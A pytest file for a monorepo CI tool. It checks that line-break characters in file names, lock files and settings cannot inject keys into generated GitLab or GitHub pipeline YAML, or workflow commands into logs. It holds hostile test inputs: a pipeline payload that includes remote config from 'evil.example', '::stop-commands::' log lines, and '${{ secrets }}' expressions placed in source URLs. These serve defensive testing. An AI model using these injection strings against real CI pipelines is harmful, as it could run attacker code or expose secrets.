"""Line breaks beyond ASCII, workflow commands and configured values, through the real CLI.

libyaml (GitLab, YAML 1.1) reads U+0085, U+2028 and U+2029 as line breaks, even inside a
comment; the GitHub runner reads `::command::` at the start of any log line. So a changed file
name, a member directory, a version in uv.lock or a configured value holding one of them must
never add a key to a generated file or a line to a log: every generated file is parsed with
libyaml (`yaml.CSafeLoader`) and PyYAML's own parser, and must hold exactly the keys the
renderer puts there; every printed line must start as uvmono starts it.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.adversarial.harness import Result, clean_env, expect_error, ok, run
from tests.adversarial.test_injection import ROOT_CONFIG, SINCE, command, hostile_repo
from tests.gitutil import GitRepo
from tests.wsutil import BUILD_SYSTEM, write_tree

BREAKS = {"nel": "\x85", "ls": "\u2028", "ps": "\u2029", "lf": "\n", "cr": "\r"}
UNICODE_BREAKS = {k: v for k, v in BREAKS.items() if k in ("nel", "ls", "ps")}
PAYLOAD = "evil-job: {{script: [touch pwned]}}{b}include: [{{remote: https://evil.example/x}}]"

LOADERS: list[Any] = [yaml.SafeLoader]
if getattr(yaml, "__with_libyaml__", False):
    LOADERS.append(yaml.CSafeLoader)

GITLAB_CHILD_KEYS = re.compile(r"stages|variables|nothing-affected|test(-\d+)?|build-image(-\d+)?")
GITLAB_PARENT_KEYS = {"workflow", "uvmono-plan", "uvmono-child"}
GITHUB_KEYS = {"name", "on", "permissions", "concurrency", "defaults", "jobs"}
GITHUB_JOBS = {"plan", "test", "image", "ci-ok"}


def parse_all(text: str) -> Any:
    """`text` parsed by every loader: they must agree, and none may fail."""
    if not getattr(yaml, "__with_libyaml__", False):
        pytest.skip("PyYAML was built without libyaml: cannot parse as GitLab does")
    parsed = [yaml.load(text, Loader=loader) for loader in LOADERS]
    assert all(p == parsed[0] for p in parsed), "libyaml and PyYAML read different documents"
    return parsed[0]


def assert_only_rendered_keys(text: str, kind: str) -> None:
    data = parse_all(text)
    assert isinstance(data, dict), text
    if kind == "child":
        extra = [k for k in data if not (isinstance(k, str) and GITLAB_CHILD_KEYS.fullmatch(k))]
    elif kind == "parent":
        extra = [k for k in data if k not in GITLAB_PARENT_KEYS]
    else:
        extra = [k for k in data if k not in GITHUB_KEYS] + [
            k for k in data["jobs"] if k not in GITHUB_JOBS
        ]
    assert not extra, f"keys the renderer did not write: {extra}\n{text}"
    assert "evil" not in json.dumps(list(data), default=str)


def log_lines(stderr: str) -> list[str]:
    """stderr as every reader splits it (str.splitlines knows U+0085, U+2028, U+2029)."""
    return stderr.splitlines()


def assert_no_workflow_command(result: Result) -> None:
    for line in log_lines(result.stderr) + log_lines(result.stdout):
        assert not line.lstrip().startswith("::"), f"a workflow command in the log: {line!r}"
        assert "\x1b" not in line, line


# ------------------------------------------------------------- changed file names in comments


@pytest.mark.parametrize("brk", UNICODE_BREAKS.values(), ids=UNICODE_BREAKS.keys())
def test_a_changed_file_name_cannot_add_a_key_to_the_child_pipeline(
    tmp_path: Path, brk: str
) -> None:
    repo = hostile_repo(tmp_path, ["ok"])
    name = f"packages/ok/src/x{brk}{PAYLOAD.format(b=brk)}{brk}.py"
    repo.write(name, "x = 1\n")
    repo.commit("a hostile file name")
    result = command(repo, "ci", "gitlab", "--child", *SINCE)
    assert result is not None, "a file name is data: the child pipeline is still written"
    assert_only_rendered_keys(result.stdout, "child")
    assert parse_all(result.stdout)["test"]["parallel"]["matrix"][0]["PACKAGE"] == "m0"
    assert_no_workflow_command(result)


@pytest.mark.parametrize("brk", BREAKS.values(), ids=BREAKS.keys())
@pytest.mark.parametrize(
    "args",
    [
        ("ci", "gitlab", "--child", *SINCE),
        ("ci", "gitlab", "--stdout"),
        ("ci", "github", "--stdout"),
        ("matrix", *SINCE, "--format", "gitlab"),
        ("matrix", *SINCE, "--format", "github"),
    ],
    ids=lambda a: " ".join(a[:3]),
)
def test_a_member_directory_with_a_line_break(
    tmp_path: Path, brk: str, args: tuple[str, ...]
) -> None:
    repo = hostile_repo(tmp_path, [f"d{brk}{PAYLOAD.format(b=brk)}", "fine"])
    result = command(repo, *args)
    if result is None:  # refused cleanly (the directory cannot be passed to CI)
        return
    if args[0] == "matrix":
        parse_all(result.stdout)
    else:
        kind = "github" if args[1] == "github" else ("child" if "--child" in args else "parent")
        assert_only_rendered_keys(result.stdout, kind)
    assert_no_workflow_command(result)


# -------------------------------------------------------------------------- uv.lock versions


@pytest.mark.parametrize(
    "version",
    ["1.0\u2028evil: 1", "1.0\x85x", "1.0\u2029x", "1.0\nx", "not a version", " 1.0\u2028"],
)
def test_a_lock_version_must_be_pep_440(tmp_path: Path, version: str) -> None:
    repo = hostile_repo(tmp_path, ["ok"])
    lock = (repo.path / "uv.lock").read_text()
    lock += f"\n[[package]]\nname = \"dep\"\nversion = {json.dumps(version)}\n"
    lock += 'source = { registry = "https://pypi.org/simple" }\n'
    repo.write("uv.lock", lock)
    repo.commit("a hostile version")
    for args in (("ci", "gitlab", "--child", *SINCE), ("affected", *SINCE)):
        error = expect_error(run(*args, cwd=repo.path), "uv.lock", "PEP 440")
        assert "\u2028" not in error and "\x85" not in error


def test_a_lock_package_name_must_be_pep_508(tmp_path: Path) -> None:
    repo = hostile_repo(tmp_path, ["ok"])
    lock = (repo.path / "uv.lock").read_text()
    lock += '\n[[package]]\nname = "dep\u2028evil: 1"\nversion = "1.0"\n'
    repo.write("uv.lock", lock)
    repo.commit("a hostile name")
    expect_error(run("affected", *SINCE, cwd=repo.path), "uv.lock", "PEP 508")


# -------------------------------------------------------------------------- workflow commands


@pytest.mark.parametrize("brk", BREAKS.values(), ids=BREAKS.keys())
@pytest.mark.parametrize(
    "args",
    [("members",), ("affected", *SINCE), ("ci", "gitlab", "--child", *SINCE)],
    ids=lambda a: a[0],
)
def test_a_file_name_cannot_print_a_workflow_command(
    tmp_path: Path, brk: str, args: tuple[str, ...]
) -> None:
    repo = hostile_repo(tmp_path, ["ok"])
    # A file where a member directory is expected: uvmono warns about it by name.
    repo.write(f"packages/x{brk}::stop-commands::tok{brk}::error::pwned", "")
    repo.write(f"packages/ok/src/y{brk}::error title=x::pwned{brk}.py", "")
    repo.commit("hostile names")
    result = run(*args, cwd=repo.path)
    assert result.returncode == 0, str(result)
    assert "warning: ignoring packages/x" in result.stderr, str(result)
    assert_no_workflow_command(result)


# -------------------------------------------------------------------------- configured values


def configured_repo(tmp_path: Path, ci: str = "", docker: str = "") -> GitRepo:
    repo = hostile_repo(tmp_path, ["ok"])
    text = (repo.path / "pyproject.toml").read_text()
    if ci:
        text = re.sub(r"uvmono-source = .*\n", lambda _: ci + "\n", text)
    if docker:
        text += f"[tool.uvmono.docker]\n{docker}\n"
    repo.write("pyproject.toml", text)
    repo.commit("configure")
    return repo


HEX = "0" * 64
REFUSED_SOURCES = {
    "expression in a git URL": "uvmono @ git+https://github.com/${{ secrets.X }}/uvmono@"
    + "a" * 40,
    "expression in a wheel URL": "uvmono @ https://e.example/${{ github.token }}/u.whl#sha256="
    + HEX,
    "wheel without hash": "uvmono @ https://e.example/uvmono-0.1.0-py3-none-any.whl",
    "hash but no wheel": f"uvmono @ https://e.example/uvmono-0.1.0.tar.gz#sha256={HEX}",
    "whl in the query only": f"uvmono @ https://e.example/get?f=u.whl#sha256={HEX}",
    "short hash": "uvmono @ https://e.example/uvmono-0.1.0-py3-none-any.whl#sha256=abc",
    "pypi.org": "uvmono==0.1.0 --default-index https://pypi.org/simple",
    "pypi.org no simple": "uvmono==0.1.0 --default-index https://pypi.org",
    "pypi.org index-url": "uvmono==0.1.0 --index-url https://pypi.org/simple/",
    "pypi.python.org": "uvmono==0.1.0 --default-index https://pypi.python.org/simple",
    "files.pythonhosted.org": "uvmono==0.1.0 --default-index=https://files.pythonhosted.org",
    "PyPI.ORG uppercase": "uvmono==0.1.0 --default-index https://PyPI.ORG/simple",
    "http pypi": "uvmono==0.1.0 --default-index http://pypi.org/simple",
    "line separator": "uvmono @ git+https://github.com/o/uvmono@" + "a" * 40 + "\u2028x: 1",
}


@pytest.mark.parametrize("source", REFUSED_SOURCES.values(), ids=REFUSED_SOURCES.keys())
@pytest.mark.parametrize("ci", ["github", "gitlab"])
def test_unsafe_uvmono_sources_are_refused(tmp_path: Path, source: str, ci: str) -> None:
    repo = configured_repo(tmp_path, ci=f"uvmono-source = {json.dumps(source)}")
    expect_error(run("ci", ci, "--stdout", cwd=repo.path), "uvmono-source")


ACCEPTED_SOURCES = [
    f"uvmono @ https://e.example/uvmono-0.1.0-py3-none-any.whl#sha256={HEX}",
    "uvmono==0.1.0 --default-index https://pypi.example.com/simple",
    "uvmono==0.1.0 --index-url https://pypi.example.com/simple",
]


@pytest.mark.parametrize("source", ACCEPTED_SOURCES)
def test_pinned_sources_are_accepted(tmp_path: Path, source: str) -> None:
    repo = configured_repo(tmp_path, ci=f"uvmono-source = {json.dumps(source)}")
    for ci in ("github", "gitlab"):
        result = ok("ci", ci, "--stdout", cwd=repo.path)
        assert_only_rendered_keys(result.stdout, "github" if ci == "github" else "parent")


@pytest.mark.parametrize(
    "version", ["latest", "0.13", "0.13.9\u2028evil: 1", "0.13.9 ", "${{ x }}"]
)
@pytest.mark.parametrize(
    "args",
    [
        ("ci", "github", "--stdout"),
        ("ci", "gitlab", "--stdout"),
        ("ci", "gitlab", "--child", *SINCE),
    ],
    ids=lambda a: " ".join(a[1:3]),
)
def test_uv_version_is_exact_for_every_ci(
    tmp_path: Path, version: str, args: tuple[str, ...]
) -> None:
    repo = configured_repo(tmp_path, docker=f"uv-version = {json.dumps(version)}")
    result = run(*args, cwd=repo.path)
    if result.returncode == 0:  # only where config validation let it through: never
        raise AssertionError(f"uv-version {version!r} reached a CI file\n{result}")
    expect_error(result, "uv-version")


def test_a_registry_with_an_expression_is_refused(tmp_path: Path) -> None:
    repo = configured_repo(tmp_path, docker='registry = "ghcr.io/${{ secrets.TOKEN }}"')
    expect_error(run("ci", "github", "--stdout", cwd=repo.path), "registry")


# --------------------------------------------------------------- GitLab: the plan job's output


def root_member_repo(tmp_path: Path) -> GitRepo:
    """A workspace whose root is a member too, and a change in another member only."""
    repo = GitRepo.init(tmp_path / "repo")
    files = {
        "pyproject.toml": '[project]\nname = "top"\nversion = "1.0"\n'
        '[tool.uv.workspace]\nmembers = ["packages/*"]\n' + ROOT_CONFIG + BUILD_SYSTEM,
        "src/top/__init__.py": "",
        "packages/a/pyproject.toml": '[project]\nname = "a"\nversion = "1.0"\n' + BUILD_SYSTEM,
        "packages/a/src/a/__init__.py": "",
        "uv.lock": 'version = 1\nrevision = 3\n\n[manifest]\nmembers = ["a", "top"]\n\n'
        '[[package]]\nname = "a"\nversion = "1.0"\nsource = { editable = "packages/a" }\n\n'
        '[[package]]\nname = "top"\nversion = "1.0"\nsource = { editable = "." }\n',
    }
    write_tree(repo.path, files)
    repo.commit("initial")
    repo.write("packages/a/src/a/changed.py", "x = 1\n")
    repo.commit("change a")
    return repo


def test_the_gitlab_plan_job_output_is_not_a_change(tmp_path: Path) -> None:
    """Run the parent's plan script as the runner would (uvmono already on PATH): the child
    pipeline it writes lists `a`, and not the root member `top`."""
    if shutil.which("bash") is None:
        pytest.skip("bash is not installed")
    repo = root_member_repo(tmp_path)
    parent = parse_all(ok("ci", "gitlab", "--stdout", cwd=repo.path).stdout)
    script = [
        line
        for line in parent["uvmono-plan"]["script"]
        if not line.startswith(("uv tool install", "uv sync", "export PATH"))
    ]
    env = clean_env(
        {
            "GITLAB_CI": "true",
            "CI_PIPELINE_SOURCE": "push",
            "CI_COMMIT_BRANCH": "main",
            "CI_DEFAULT_BRANCH": "main",
            "CI_COMMIT_BEFORE_SHA": repo.sha("HEAD~1"),
            "CI_COMMIT_SHA": repo.sha(),
            "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}",
        }
    )
    proc = subprocess.run(
        ["bash", "-e", "-c", "\n".join(script)],
        cwd=repo.path,
        env=env,
        capture_output=True,
        text=True,
        check=False,
    )
    assert proc.returncode == 0, proc.stderr
    child = parse_all((repo.path / "uvmono-child-pipeline.yml").read_text())
    packages = [m["PACKAGE"] for m in child["test"]["parallel"]["matrix"]]
    assert packages == ["a"], packages


@pytest.mark.parametrize("brk", UNICODE_BREAKS.values(), ids=UNICODE_BREAKS.keys())
@pytest.mark.parametrize(
    "args", [("members", "--format", "paths"), ("affected", *SINCE, "--format", "paths")]
)
def test_paths_one_per_line_refuse_a_unicode_line_break(
    tmp_path: Path, brk: str, args: tuple[str, ...]
) -> None:
    repo = hostile_repo(tmp_path, [f"two{brk}lines", "fine"])
    expect_error(run(*args, cwd=repo.path), "holds a line break")


def test_paths_one_per_line_keep_a_tab(tmp_path: Path) -> None:
    repo = hostile_repo(tmp_path, ["a\ttab", "fine"])
    result = ok("members", "--format", "paths", cwd=repo.path)
    assert result.stdout.split("\n") == ["packages/a\ttab", "packages/fine", ""]
